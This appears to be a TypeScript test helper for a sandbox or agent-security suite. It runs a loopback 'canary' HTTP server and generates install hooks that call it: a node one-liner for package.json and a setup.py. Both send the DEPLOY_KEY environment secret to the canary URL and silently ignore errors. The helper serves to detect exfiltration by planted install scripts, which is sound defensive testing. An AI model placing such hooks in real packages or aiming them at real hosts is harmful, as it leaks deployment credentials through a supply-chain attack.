// A loopback HTTP server that records every request: what an install script
// planted by the agent or a fork would call home to. The base branch's own
// scripts call it too, which proves setup had the network when it ran.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

export interface Canary {
  url: string;
  /** Paths (with query) of every request, in order. */
  hits: string[];
  close(): Promise<void>;
}

export async function startCanary(): Promise<Canary> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.end("ok");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** A shell-free node one-liner that calls `url` with the secret (if the environment has it), for a package.json script. */
export function callHome(url: string, what: string): string {
  // node:http, not fetch: undici's WebAssembly parser does not fit the sandbox's address-space limit.
  return `node -e "require('http').get('${url}/${what}?k='+encodeURIComponent(process.env.DEPLOY_KEY||''),(r)=>r.resume()).on('error',()=>{})"`;
}

/** A setup.py that calls `url` when setuptools runs it. */
export function setupPy(url: string, what: string): string {
  return [
    "import os, urllib.request",
    "from setuptools import setup",
    "try:",
    `    urllib.request.urlopen('${url}/${what}?k=' + os.environ.get('DEPLOY_KEY', ''), timeout=5).read()`,
    "except Exception:",
    "    pass",
    'setup(name="widgets", version="1.0.0", py_modules=[])',
    "",
  ].join("\n");
}
